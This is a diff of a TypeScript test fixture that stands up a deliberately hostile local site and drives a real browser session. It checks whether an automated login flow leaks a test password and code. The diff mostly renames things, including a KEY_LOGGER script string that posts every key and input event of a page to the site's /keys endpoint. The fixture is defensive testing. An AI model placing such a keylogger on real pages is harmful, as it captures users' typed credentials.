@@ -14,17 +14,17 @@ import { createEgressPolicy } from '../../egress/policy.ts';
 import type { Store } from '../../store/store.ts';
 import { API_KEY, startSite, type ServiceUnderTest, type Site } from '../browser/service-under-test.ts';
 import { addConnection } from '../store/databases.ts';
-import { loginTarget } from './login-target.ts';
+import { loginTarget } from './login-fixtures.ts';
 
 export const PASSWORD = 'Zq7#kVx2!mWp9';
-/** What an application/x-www-form-urlencoded body makes of {@link PASSWORD}. */
+/** {@link PASSWORD} in an application/x-www-form-urlencoded body. */
 export const PASSWORD_IN_FORM = encodeURIComponent(PASSWORD).replace('!', '%21');
 export const CODE = '918273';
-/** The site's other name, which is another site: `{port}` becomes its port. */
-export const AWAY = 'http://127.0.0.1:{port}';
+/** The same server under another host, which is another site. Pages replace `{port}`. */
+export const OTHER_SITE = 'http://127.0.0.1:{port}';
 
-/** Tells its server of every key that reaches a page, and of every text that is in one of its fields. */
-export const SPY = (at: string): string => `<script>
+/** A script that posts every key and input event of its page to `/keys`. */
+export const KEY_LOGGER = (at: string): string => `<script>
   for (const type of ['keydown', 'keypress', 'beforeinput'])
     addEventListener(type, (event) => fetch('/keys', { method: 'POST', body: '${at} ' + (event.data ?? event.key) }), true);
 </script>`;
@@ -37,37 +37,37 @@ const PROJECT = { headers: { 'x-kernel-project-id': 'p' } };
 export type Handler = (request: IncomingMessage, response: ServerResponse) => void;
 type Settings = Partial<LoginTarget>;
 
-/** A hostile site, and the entering of a login on it in a real browser. */
-export interface Entering {
+/** A hostile site, and a login on it in a real browser. */
+export interface LoginOnSite {
   site: Site;
   sessionId: string;
   deps: LoginDeps;
-  /** Keys that reached a page with {@link SPY}, by the host that its server was called by. */
-  stolen: string[];
-  /** What was posted, by the host that it was posted to. */
+  /** Events reported by {@link KEY_LOGGER}, each with the requested host. */
+  capturedKeys: string[];
+  /** Bodies posted to `/in` and `/taken`, each with the requested host. */
   posted: string[];
-  /** Opens a page of the site in a fresh window, the only one then. */
+  /** Opens a page of the site in a new window and closes all others. */
   open(path: string): Promise<Page>;
-  /** Enters `ann`, {@link PASSWORD} and {@link CODE} into what a reading asks for; answers the outcome, or the fault's code. */
+  /** Enters `ann`, {@link PASSWORD} and {@link CODE}; returns the outcome or the error's code. */
   enter(reading: PageReading, settings?: Settings, choice?: Answer['choice']): Promise<EnterOutcome | string>;
-  /** Opens a page of the site and enters what it asks for. */
+  /** Opens a page of the site and enters the requested values. */
   logIn(path: string, settings?: Settings): Promise<EnterOutcome | string>;
   close(): Promise<void>;
 }
 
-/** Starts it. `pages`: what the site shows by path; what it is posted at `/in`, `/taken` and `/keys` is told by the result. */
-export async function startEntering(
+/** Starts the site and a browser session. `pages`: the site's pages by path; `/in`, `/taken` and `/keys` record what is posted. */
+export async function startLoginOnSite(
   service: ServiceUnderTest,
   store: Store,
   pages: Record<string, string | Handler>,
-): Promise<Entering> {
-  const take =
-    (into: (text: string) => void): Handler =>
+): Promise<LoginOnSite> {
+  const recordTo =
+    (add: (text: string) => void): Handler =>
     (request, response) => {
       const chunks: Buffer[] = [];
       request.on('data', (chunk: Buffer) => chunks.push(chunk));
       request.on('end', () => {
-        into(`${request.headers.host ?? ''} ${Buffer.concat(chunks).toString()}`);
+        add(`${request.headers.host ?? ''} ${Buffer.concat(chunks).toString()}`);
         response.setHeader('content-type', 'text/html');
         response.setHeader('access-control-allow-origin', '*');
         response.end('<h1>Welcome</h1><a href="/logout">Log out</a>');
@@ -79,37 +79,37 @@ export async function startEntering(
       response.setHeader('content-type', 'text/html');
       response.end(`<!doctype html><title>Site</title>${html.replaceAll('{port}', String(site.port))}`);
     };
-  const shown = Object.entries(pages).map(([path, page]): [string, Handler] => [
+  const handlers = Object.entries(pages).map(([path, page]): [string, Handler] => [
     path,
     typeof page === 'string' ? show(page) : page,
   ]);
   const site: Site = await startSite({
-    '/keys': take((text) => entering.stolen.push(text)),
-    '/in': take((text) => entering.posted.push(text)),
-    '/taken': take((text) => entering.posted.push(text)),
-    ...Object.fromEntries(shown),
+    '/keys': recordTo((text) => login.capturedKeys.push(text)),
+    '/in': recordTo((text) => login.posted.push(text)),
+    '/taken': recordTo((text) => login.posted.push(text)),
+    ...Object.fromEntries(handlers),
   });
-  const caller = createBrowserService({ baseUrl: service.handle.url, apiKey: API_KEY });
+  const browserService = createBrowserService({ baseUrl: service.handle.url, apiKey: API_KEY });
   const { session_id: sessionId } = await service.kernel.browsers.create({ timeout_seconds: 300 }, PROJECT);
   const egress = createEgressPolicy(`localhost:${site.port},127.0.0.1:${site.port}`);
-  const own = `localhost:${site.port}`;
+  const domain = `localhost:${site.port}`;
   const deps: LoginDeps = {
     store,
-    service: caller,
-    pages: createPages(caller),
+    service: browserService,
+    pages: createPages(browserService),
     egress,
     externalCredentials: createExternalCredentials({ providers: { open: () => Promise.resolve(null) }, egress }),
   };
 
-  const entering: Entering = {
+  const login: LoginOnSite = {
     site,
     sessionId,
     deps,
-    stolen: [],
+    capturedKeys: [],
     posted: [],
     async open(path) {
-      entering.stolen = [];
-      entering.posted = [];
+      login.capturedKeys = [];
+      login.posted = [];
       site.requests.length = 0;
       const last = await deps.pages.of('p', sessionId);
       const page = await last.context().newPage();
@@ -119,16 +119,16 @@ export async function startEntering(
     },
     async enter({ fields, submit }, settings = {}, choice = null) {
       const connectionId = await addConnection(deps.store);
-      const target = loginTarget({ domain: own, allowedDomains: [own], connectionId, ...settings });
+      const target = loginTarget({ domain, allowedDomains: [domain], connectionId, ...settings });
       const valueOf = (type: string): string => (type === 'identifier' ? 'ann' : type === 'password' ? PASSWORD : CODE);
-      const asked = choice === null ? fields : [];
+      const requestedFields = choice === null ? fields : [];
       const { submissionId } = await deps.store.submissions.seal({
         connectionId,
         interactionId: 'int',
-        values: Object.fromEntries(asked.map(({ name, type }) => [name, valueOf(type)])),
+        values: Object.fromEntries(requestedFields.map(({ name, type }) => [name, valueOf(type)])),
         expiresAt: new Date(Date.now() + 60_000),
       });
-      const entries = asked.map((field) => ({
+      const entries = requestedFields.map((field) => ({
         field,
         ref: field.name,
         source: { kind: 'submission' as const, fieldId: field.name },
@@ -149,14 +149,14 @@ export async function startEntering(
       );
     },
     async logIn(path, settings) {
-      return await entering.enter(await readLogin(await entering.open(path)), settings);
+      return await login.enter(await readLogin(await login.open(path)), settings);
     },
     async close() {
       await deps.pages.close();
       await service.kernel.browsers.deleteByID(sessionId, PROJECT);
-      await caller.close();
+      await browserService.close();
       site.close();
     },
   };
-  return entering;
+  return login;
 }
